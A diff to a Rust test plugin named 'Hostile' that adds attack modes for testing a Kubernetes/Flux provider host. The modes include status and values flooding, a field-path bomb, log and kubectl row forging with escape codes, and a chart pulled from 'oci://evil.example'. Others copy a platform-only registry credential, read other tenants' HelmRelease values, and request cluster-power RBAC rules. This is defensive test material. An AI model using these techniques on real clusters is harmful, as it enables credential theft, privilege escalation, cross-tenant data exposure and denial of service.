@@ -22,12 +22,20 @@
 //! | `status-pileup` | name 15 new condition types on every reconcile, to grow the status without end |
 //! | `status-too-many`, `status-forged` | report 17 conditions at once, or a reason that breaks the line |
 //! | `status-long` | report a 100 KiB message full of terminal escapes |
+//! | `flood-status…` | report 40 resources with 30 KB messages that change on every call, every second |
+//! | `flood-values…` | apply a HelmRelease whose 900 KB `values` change on every call, every second (`…-huge`: 1.2 MB) |
+//! | `fields-bomb` | a HelmRelease whose allowed `values` nest 47,000 leaves under two 250 KB keys |
+//! | `forge-transient`, `forge-message` | a transient error or a Ready message with line breaks and escapes that forge log and `kubectl describe` rows |
+//! | `flux-foreign-url` | pull a chart from a registry the ProviderConfig does not name |
+//! | `flux-fast-poll` | make source-controller poll every second |
+//! | `copy-platform-only` | copy onto the ControlPlane a registry credential its source says is for the platform only |
+//! | `read-foreign-release` | echo the `values` of the HelmReleases it observes in its tenant namespace (another provider's among them) into its status |
 
-use serde_json::{Value, json};
+use serde_json::{Map, Value, json};
 use service_provider_sdk::contract::{
     Access, ApiKind, Capability, CleanupPlan, Cluster, Condition, ConditionStatus, Descriptor, DesiredObject, Detail,
-    Input, NamespaceScope, ObjectCopy, ObjectRef, Observation, Plan, PlanError, PolicyRule, Provider, ServiceStatus,
-    Stage, Teardown,
+    Input, NamespaceScope, ObjectCopy, ObjectRef, Observation, Plan, PlanError, PolicyRule, Provider, ResourceStatus,
+    ServiceStatus, Stage, Teardown,
 };
 
 pub struct Hostile;
@@ -43,6 +51,8 @@ pub const OWN_RELEASE: &str = "own-release";
 pub const EXEC_MARKER: &str = "/tmp/sp-host-hostile-plugin-exec-ran";
 /// The Secret every healthy instance may copy (the test's ProviderConfig names it).
 pub const ALLOWED_SOURCE: &str = "registry";
+/// A source the test annotates as for the platform cluster only.
+pub const PLATFORM_ONLY_SOURCE: &str = "platform-pull";
 const DOCKER: &str = "kubernetes.io/dockerconfigjson";
 
 fn kind(group: &str, version: &str, kind: &str, plural: &str, namespaced: bool) -> ApiKind {
@@ -73,6 +83,32 @@ fn status(ready: bool, message: String) -> ServiceStatus {
         }],
         resources: None,
     }
+}
+
+/// Text that differs on every call: the clock, to the nanosecond.
+fn churn() -> String {
+    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap_or_default();
+    format!("{}.{:09}", now.as_secs(), now.subsec_nanos())
+}
+
+/// The token rules that give power over a cluster beyond its objects:
+/// impersonation, RBAC escalation through `*`, minting tokens, approving
+/// certificates, the kubelet's and containers' proxies, admission and API
+/// registration. Each must be refused unless a grant names it literally.
+/// (`*/exec` and other partial wildcards do not even describe: the host
+/// refuses the descriptor.)
+pub fn cluster_power_rules() -> Vec<PolicyRule> {
+    vec![
+        PolicyRule::new(&[""], &["users", "groups", "serviceaccounts"], &["impersonate"]),
+        PolicyRule::new(&["rbac.authorization.k8s.io"], &["clusterroles", "clusterrolebindings"], &["*"]),
+        PolicyRule::new(&[""], &["serviceaccounts/token"], &["create"]),
+        PolicyRule::new(&["certificates.k8s.io"], &["certificatesigningrequests/approval"], &["update"]),
+        PolicyRule::new(&["certificates.k8s.io"], &["signers"], &["approve"]),
+        PolicyRule::new(&[""], &["nodes/proxy"], &["get", "create"]),
+        PolicyRule::new(&[""], &["pods/exec"], &["create"]),
+        PolicyRule::new(&["admissionregistration.k8s.io"], &["mutatingwebhookconfigurations"], &["create"]),
+        PolicyRule::new(&["apiregistration.k8s.io"], &["apiservices"], &["create"]),
+    ]
 }
 
 fn oci_repository() -> ApiKind {
@@ -118,7 +154,10 @@ impl Provider for Hostile {
                         &["get", "list", "create", "update", "patch", "delete"],
                     ),
                     PolicyRule::new(&["*"], &["*"], &["*"]),
-                ],
+                ]
+                .into_iter()
+                .chain(cluster_power_rules())
+                .collect(),
                 workload_cluster: true,
                 workload_rules: vec![PolicyRule::new(&["*"], &["*"], &["*"])],
             },
@@ -155,6 +194,15 @@ impl Provider for Hostile {
                     scope: ClusterScoped,
                     name: None,
                     stage: Stage::Always,
+                    detail: Detail::Full,
+                },
+                Observation {
+                    id: "releases".into(),
+                    cluster: Platform,
+                    api: kind("helm.toolkit.fluxcd.io", "v2", "HelmRelease", "helmreleases", true),
+                    scope: Tenant,
+                    name: None,
+                    stage: Stage::Reconcile,
                     detail: Detail::Full,
                 },
                 Observation {
@@ -202,6 +250,7 @@ impl Provider for Hostile {
             "copy-token" => copies.push(copy("sa-token", ControlPlane, "default", Some("kubernetes.io/service-account-token"))),
             "copy-unlisted" => copies.push(copy("unlisted", Platform, tenant, Some(DOCKER))),
             "copy-untyped" => copies.push(copy(ALLOWED_SOURCE, Platform, tenant, None)),
+            "copy-platform-only" => copies.push(copy(PLATFORM_ONLY_SOURCE, ControlPlane, "default", Some(DOCKER))),
             "exec-kubeconfig" => {
                 let kubeconfig = format!(
                     "apiVersion: v1\nkind: Config\ncurrent-context: c\ncontexts: [{{name: c, context: {{cluster: k, user: u}}}}]\nclusters: [{{name: k, cluster: {{server: 'https://127.0.0.1:1'}}}}]\nusers: [{{name: u, user: {{exec: {{apiVersion: client.authentication.k8s.io/v1, command: touch, args: ['{EXEC_MARKER}']}}}}}}]\n"
@@ -286,6 +335,15 @@ impl Provider for Hostile {
                     .collect();
                 ready = (false, format!("observed annotations: {}", annotations.join(" | ")));
             }
+            "read-foreign-release" => {
+                let seen = input.observed("releases").unwrap_or_default();
+                let values: Vec<String> = seen
+                    .iter()
+                    .filter_map(|o| serde_json::from_str::<Value>(o).ok())
+                    .map(|o| format!("{} {}", o["metadata"]["name"], o["spec"]["values"]))
+                    .collect();
+                ready = (false, format!("observed releases: {}", values.join(" | ")));
+            }
             "status-pileup" => {
                 // New types each time: numbered by how many the status holds now.
                 let now = service.pointer("/status/conditions").and_then(Value::as_array).map_or(0, Vec::len);
@@ -310,6 +368,52 @@ impl Provider for Hostile {
                 return Ok(Plan { objects, copies, status: report, requeue_after_seconds: 60 });
             }
             "status-long" => ready = (true, "\u{1b}[2J\u{1b}[31mcleared ".repeat(100 << 10 >> 4)),
+            n if n.starts_with("flood-status") => {
+                let stamp = churn();
+                let resources = (0..40)
+                    .map(|i| ResourceStatus {
+                        api_group: None,
+                        kind: "ConfigMap".into(),
+                        name: format!("flood-{i}"),
+                        namespace: None,
+                        phase: "Ready".into(),
+                        message: Some(format!("{stamp} {}", "x".repeat(30_000))),
+                        location: None,
+                    })
+                    .collect();
+                let report = ServiceStatus { resources: Some(resources), ..status(true, format!("flooding {stamp}")) };
+                return Ok(Plan { objects, copies, status: report, requeue_after_seconds: 1 });
+            }
+            n if n.starts_with("flood-values") => {
+                let size = if n.ends_with("huge") { 1_200_000 } else { 900_000 };
+                objects.push(object(Platform, source("x", tenant, json!({}))));
+                let mut release = helm_release("flood", tenant, Some(&cp_secret));
+                release["spec"]["values"] = json!({"blob": format!("{} {}", churn(), "v".repeat(size))});
+                objects.push(object(Platform, release));
+                return Ok(Plan { objects, copies, status: status(true, "flooding".into()), requeue_after_seconds: 1 });
+            }
+            "fields-bomb" => {
+                // Every leaf's full path would be 500 KB: 47,000 of them.
+                let leaves: Map<String, Value> = (0..47_000).map(|i| (format!("k{i}"), json!(0))).collect();
+                let mut values = Map::new();
+                values.insert("a".repeat(250_000), json!({"b".repeat(250_000): leaves}));
+                objects.push(object(Platform, source("x", tenant, json!({}))));
+                let mut release = helm_release("bomb", tenant, Some(&cp_secret));
+                release["spec"]["values"] = Value::Object(values);
+                objects.push(object(Platform, release));
+            }
+            "forge-transient" => {
+                return Err(PlanError::Transient(
+                    "upstream failed\nERROR service_provider_host: forged line instance=victim\r\n\u{1b}[2Jcleared".into(),
+                ));
+            }
+            "forge-message" => {
+                ready = (true, "fine\n  Ready   True   ReconcileSuccess   a forged row\r\n\u{1b}[2J".into());
+            }
+            "flux-foreign-url" => {
+                objects.push(object(Platform, source("x", tenant, json!({"url": "oci://evil.example/charts/x"}))))
+            }
+            "flux-fast-poll" => objects.push(object(Platform, source("x", tenant, json!({"interval": "1s"})))),
             other => ready = (false, format!("no attack is named {other:?}")),
         }
         Ok(Plan { objects, copies, status: status(ready.0, ready.1), requeue_after_seconds: 60 })
